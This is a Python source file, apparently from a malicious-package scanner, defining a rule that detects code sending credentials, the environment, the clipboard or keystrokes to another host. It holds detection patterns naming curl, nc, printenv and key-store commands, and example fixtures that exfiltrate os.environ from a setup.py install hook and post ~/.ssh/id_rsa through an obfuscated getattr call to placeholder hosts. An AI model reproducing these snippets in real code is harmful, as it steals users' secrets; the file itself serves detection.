"""Theft: secrets of the machine or of the caller leave for another host."""

from __future__ import annotations

import re
from collections.abc import Iterator

from pratique.facts.model import PackageFacts
from pratique.facts.python.model import Call, Does, Source, Taint
from pratique.facts.python.secrets import irreplaceable, secret_argument, secret_place, secret_variable
from pratique.facts.shell import read_shell
from pratique.finding import Behaviour, Confidence, Finding, Severity
from pratique.rules.claims import LOCAL_PLACE, calls, claim, command, destination, hidden, when
from pratique.rules.rule import Example, Rule

_ID = "theft"
_STOLEN = (Source.SECRET, Source.ENVIRON, Source.CLIPBOARD, Source.SCREEN, Source.KEYS)
_ADDRESS = frozenset({"0", "url", "headers", "auth"})
_FIXED = re.compile(r"https?://(?!localhost\b|127\.|10\.|192\.168\.|169\.254\.)[^/<>\s]+\.[^/<>\s]+(/|\?|$)")
"""An address whose host stands in the code, and is no machine nearby."""
_SEVERAL = 3
"""So many secret variables in one message are no client's own."""
_PRINTS = re.compile(
    r"^(/usr/bin/)?(env|printenv|set|pbpaste|xclip\b.*|xsel\b.*)\s*$|security find-(generic|internet)-password|"
    r"git credential fill|key=clear|gh auth token|vault token"
)
"""Commands that print the environment, the clipboard or a key store."""
_TALKS = re.compile(
    r"\b(curl|wget|nslookup|dig|host|ping|nc|ncat|socat|scp|sftp|rsync|ftp|iwr|irm|invoke-(webrequest|restmethod))\b",
    re.IGNORECASE,
)
_WHAT = {
    Source.SECRET: "credentials",
    Source.ENVIRON: "the whole environment",
    Source.CLIPBOARD: "the clipboard",
    Source.SCREEN: "the screen",
    Source.KEYS: "key strokes",
}


def _check(facts: PackageFacts) -> Iterator[Finding]:
    for path, call in calls(facts):
        if call.does & {Does.SEND, Does.FETCH}:
            yield from _sent(path, call)
        elif Does.RUN_PROCESS in call.does:
            if read_shell(command(call)).steals:
                yield _finding(path, call, "secrets", (), sure=True)
            elif taints := _carried(call):
                yield _finding(path, call, _WHAT[taints[0].source], taints, sure=call.phase.automatic)


def _sent(path: str, call: Call) -> Iterator[Finding]:
    place = destination(call)
    taints = (
        *call.taints(*_STOLEN),
        *(t for t in call.taints(Source.PROCESS) if _printed_secret(t)),
        *(t for t in call.taints(Source.NETWORK) if secret_place(t.detail) and t.detail not in place),
    )
    if taints and not LOCAL_PLACE.search(place):
        what = _WHAT.get(taints[0].source, "credentials")
        covert = bool(place) and hidden(call, place)  # where nothing is known of the place, it is the caller's
        yield _finding(path, call, what, taints, sure=call.phase.automatic or covert)
        return
    if hidden(call, place) and (argument := _handed_over(call)):
        yield _finding(path, call, f"the caller's {argument[0].detail}", argument, sure=True)
    variable = tuple(t for t in call.taints(Source.VARIABLE) if secret_variable(t.detail))
    several = len({t.detail for t in variable}) >= _SEVERAL
    if variable and call.phase.automatic and (several or hidden(call, place)):
        yield claim(
            _ID,
            Behaviour.THEFT,
            path,
            call,
            f"sends the variable {variable[0].detail} to {place or 'another host'} {when(call.phase)}",
            severity=Severity.CRITICAL,
            taints=variable,
        )


def _carried(call: Call) -> tuple[Taint, ...]:
    """Secrets in the command line or the input of a program that talks to other machines."""
    if not _TALKS.search(command(call)):
        return ()
    fed = [a for key, a in call.arguments.items() if key.isdigit() or key in {"args", "input"}]
    found = {t for a in fed for t in a.taints if t.source in _STOLEN}
    return tuple(sorted(found, key=lambda t: (t.line, t.detail)))


def _printed_secret(taint: Taint) -> bool:
    """Whether the command that printed it lists the environment or reads a secret."""
    return bool(_PRINTS.search(taint.detail) or read_shell(taint.detail).reads_secrets)


def _handed_over(call: Call) -> tuple[Taint, ...]:
    """A caller's secret that is sent; a service's own token in its address or header is what clients do."""
    sent = Does.SEND in call.does
    found = {
        t
        for key, argument in call.arguments.items()
        for t in argument.taints
        if t.source is Source.CALLER
        and (irreplaceable(t.detail) or (sent and key not in _ADDRESS and secret_argument(t.detail)))
    }
    return tuple(sorted(found, key=lambda t: (t.line, t.detail)))


def _finding(path: str, call: Call, what: str, taints: tuple[Taint, ...], *, sure: bool) -> Finding:
    place = destination(call)
    whole = any(t.source is Source.ENVIRON for t in taints)
    fixed = sure or (bool(_FIXED.match(place)) and (whole or Does.SEND in call.does))
    return claim(
        _ID,
        Behaviour.THEFT,
        path,
        call,
        f"sends {what} to {place or 'another host'} {when(call.phase)}",
        severity=Severity.CRITICAL if fixed else Severity.HIGH,
        confidence=Confidence.HIGH if fixed else Confidence.LOW,
        proven=sure and (call.phase.automatic or bool(call.layers) or hidden(call, place)),
        taints=taints,
    )


RULE = Rule(
    id=_ID,
    behaviour=Behaviour.THEFT,
    summary="Credentials, the environment, the clipboard, the screen or a caller's secret are sent to another host.",
    gain="Accounts, money and the next victims: publishing tokens spread the attack, cloud keys pay for it.",
    honest="Clients of a service send the one token that belongs to it; only a flow from a secret's place to a sink counts.",
    blocks="When it happens by itself, or when the code or the destination is hidden: decoded, a raw address, a paste, a chat, a tunnel.",
    check=_check,
    loud=(
        Example(
            title="the environment at install, in a command class",
            files={
                "setup.py": "from setuptools import setup\nfrom setuptools.command.install import install\n"
                "class I(install):\n    def run(self):\n        import os, requests as q\n"
                "        q.post('https://hook.example.invalid/', data=dict(os.environ))\n"
                "setup(name='x', cmdclass={'install': I})\n"
            },
        ),
        Example(
            title="a key file through getattr",
            files={
                "pkg/__init__.py": "import os, urllib.request as u\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                "getattr(u, 'url' + 'open')('http://198.51.100.3/', data=k.encode())\n"
            },
        ),
        Example(
            title="the environment in an address, when called",
            files={
                "pkg/__init__.py": "import base64, os, requests as r\ndef make():\n"
                "    d = base64.b64encode(str(dict(os.environ)).encode()).decode()\n"
                "    getattr(r, 'g' + 'et')('https://c.example.invalid/x/' + d)\n"
            },
        ),
        Example(
            title="a private key handed to a helper",
            files={
                "pkg/__init__.py": "import requests\ndef check(private_key):\n"
                "    requests.post('http://203.0.113.9/c', json={'k': private_key})\n"
            },
        ),
    ),
    quiet=(
        Example(
            title="a client with a token of its own service",
            files={
                "pkg/__init__.py": "import os, requests\ndef call():\n"
                "    return requests.get('https://api.example.invalid/', headers={'Authorization': os.environ['PKG_TOKEN']})\n"
            },
        ),
    ),
)
